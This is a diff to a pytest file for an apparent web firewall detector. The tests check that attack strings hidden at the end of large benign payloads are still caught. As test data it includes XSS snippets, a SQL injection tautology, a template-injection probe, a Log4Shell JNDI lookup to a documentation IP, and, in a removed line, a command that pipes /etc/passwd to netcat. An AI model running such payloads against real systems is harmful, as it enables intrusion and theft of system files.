@@ -6,9 +6,9 @@ import json
 import random
 
 import pytest
-from support.bulk import KINDS, prose
 
 from framewall.detect import builtin_engine
+from support.bulk import KINDS, prose
 
 WAYS = {
     "a field": lambda text: json.dumps({"type": "msg", "text": text}).encode(),
@@ -35,14 +35,15 @@ def test_much_of_something_harmless_passes(kind: str, kib: int, way: str) -> Non
         ("<img src=x onerror=alert(1)>", "xss.markup"),
         ("%3Cimg src=x onerror=alert(1)%3E", "xss.markup"),
         ("&lt;img src=x on\\u0065rror=alert(1)&gt;", "xss.markup"),
-        ("\n; cat /etc/passwd | nc 203.0.113.9 4444", "path_traversal.system-file"),
+        ("{{7*7}}", "ssti.arithmetic"),
         ("${jndi:ldap://203.0.113.9/a}", "jndi.lookup"),
     ],
 )
 def test_an_attack_at_the_end_of_a_mebibyte_is_found(kind: str, attack: str, rule: str) -> None:
     text = KINDS[kind](1 << 20, random.Random(1)) + " " + attack
     found = rules(json.dumps({"text": text}).encode())
-    assert rule in found and not any(name.startswith("data_bomb") for name in found)
+    assert rule in found
+    assert not any(name.startswith("data_bomb") for name in found)
 
 
 def test_an_array_of_half_a_million_numbers_passes() -> None:
@@ -50,8 +51,8 @@ def test_an_array_of_half_a_million_numbers_passes() -> None:
 
 
 def test_a_picture_before_an_attack_hides_nothing() -> None:
-    text = KINDS["picture"](256 << 10, random.Random(3)) + "' or '1'='1"
-    assert "<script" not in text and rules(json.dumps({"a": text, "b": "<script>alert(1)</script>"}).encode())
+    text = KINDS["picture"](256 << 10, random.Random(3)) + " <script>alert(1)</script>"
+    assert "xss.markup" in rules(json.dumps({"text": text}).encode())
 
 
 def test_disguises_far_apart_cost_no_more_than_their_places() -> None:
